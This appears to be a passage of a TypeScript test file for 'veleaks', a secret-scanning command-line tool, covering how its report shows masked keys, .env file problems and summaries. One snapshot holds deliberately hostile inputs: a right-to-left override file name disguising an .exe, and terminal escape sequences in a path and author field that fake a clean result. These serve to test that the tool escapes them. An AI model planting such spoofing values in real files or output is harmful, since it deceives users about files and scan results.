        }),
      ),
    ).toMatchInlineSnapshot(`
      "
      veleaks found 1 key: 1 pushed

      <mask of key 4>  Acme API key, high confidence, pushed
          a\\u202etxt.exe\\x1b[2K\\nveleaks: no keys:12:15
            since 2025-03-12  c0dec0dec  by \\x1b]0;owned\\x07 <m@x>
          key id 0000000000000004, in main and origin/main

      veleaks: 1 key in 291,809 objects and 1,204 files (2.1 GB). 4.8 s
      "
    `);
  });
});

test.each([40, 70, 120])(
  'a path of %i columns stands apart from what is said of it, within the width',
  (length) => {
    const path = `${'deep/'.repeat(length / 5 - 1)}.env`.padStart(length, 'a');
    const lines = linesOf(report({ env: [envRow({ path, status: 'tracked', failing: true })] }), {
      width: 80,
    });
    const at = lines.findIndex((line) => line.includes(path));
    expect(`${lines[at]} ${lines[at + 1]}`).toMatch(/\.env +tracked by git/);
    expect(lines.slice(0, -1).filter((line) => line.trimEnd().length > 80 && !line.includes(path))).toEqual(
      [],
    );
  },
);

test('how to be ready is one line, where that is all there is to say of .env files', () => {
  const advice = [{ code: 'env-not-there-yet' as const, data: { names: ['.env'] } }];
  const row = envRow({ status: 'not-ignored', failing: false, advice });
  expect(linesOf(report({ env: [row] }))[0]).toBe(
    '.env files: to be ready for a key, run npx veleaks env --fix',
  );
  expect(linesOf(report({ sources: ['env'], env: [row], coverage: coverage([], NOTHING) })).at(-1)).toMatch(
    /^veleaks: no \.env files to check\. /,
  );
});

test('of many repositories the .env files with something wrong come first, and the page stays short', () => {
  const advice = [{ code: 'env-not-there-yet' as const, data: { names: ['.env'] } }];
  const ready = envRow({ path: 'ready/.env', status: 'not-ignored', failing: false, advice });
  const env = [
    ready,
    ...Array.from({ length: 30 }, (_, at) => envRow({ path: `r${at}/.env`, status: 'ignored-only-here' })),
    envRow({ path: 'bad/.env', status: 'tracked', failing: true }),
  ];
  const row = { name: 'a', status: 'clean', keys: 0, objects: 1, bytes: 1, elapsedMs: 1 } as const;
  const page = write(report({ env, repositories: [row] }));
  expect(page).toContain('.env files: 1 problem\n  bad/.env');
  expect(page).toContain('  and 21 more; --verbose shows all\n');
  expect(page).not.toContain('ready/.env');
  expect(write(report({ env, repositories: [row] }), { verbose: true })).toContain('ready/.env');
  expect(write(report({ env }))).toContain('ready/.env');
});

test('a report of which the last line is all reads the same without the sections', () => {
  const lists = fc.subarray(['findings', 'env', 'baseline'] as const);
  const options = fc.record({ color: fc.boolean(), quiet: fc.boolean(), verbose: fc.boolean() });
  let alone = 0;
  fc.assert(
    fc.property(anyReport, lists, options, (made, empty, some) => {
      const input: Report = {
        ...made,
        ...Object.fromEntries(empty.map((name) => [name, []])),
        status: 'clean',
        coverage: { ...made.coverage, complete: true },
      };
      const how = { ...PLAIN, ...some };
      if (!isSummaryAlone(input, how)) return;
      alone += 1;
      expect(summaryAlone.write(input, how)).toBe(text.write(input, how));
    }),
  );
  expect(alone).toBeGreaterThan(0);
});
